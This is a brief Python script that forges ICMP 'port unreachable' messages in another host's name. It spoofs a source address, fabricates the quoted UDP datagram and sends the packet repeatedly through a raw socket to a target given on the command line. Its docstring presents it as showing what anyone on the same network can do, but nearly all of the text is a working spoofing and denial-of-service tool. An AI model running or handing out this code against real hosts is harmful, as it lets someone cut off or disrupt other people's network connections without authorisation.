"""Says "port unreachable" in another host's name, as often as told: what anybody on the same network can do.

Arguments: source address, destination address, destination's UDP port, source's UDP port, count.
"""

import socket
import struct
import sys
import time

source, destination, destination_port, source_port, count = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6])


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_header(protocol: int, length: int, origin: str, target: str) -> bytes:
    def pack(sum_: int) -> bytes:
        addresses = socket.inet_aton(origin), socket.inet_aton(target)
        return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 1, 0, 64, protocol, sum_, *addresses)

    return pack(checksum(pack(0)))


# The datagram that is said to have been refused: from the destination's port to the source's.
quoted = ip_header(socket.IPPROTO_UDP, 8, destination, source) + struct.pack("!HHHH", destination_port, source_port, 8, 0)
message = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
message = struct.pack("!BBHI", 3, 3, checksum(message), 0) + quoted
packet = ip_header(socket.IPPROTO_ICMP, len(message), source, destination) + message

out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for _ in range(count):
    out.sendto(packet, (destination, 0))
    time.sleep(0.01)
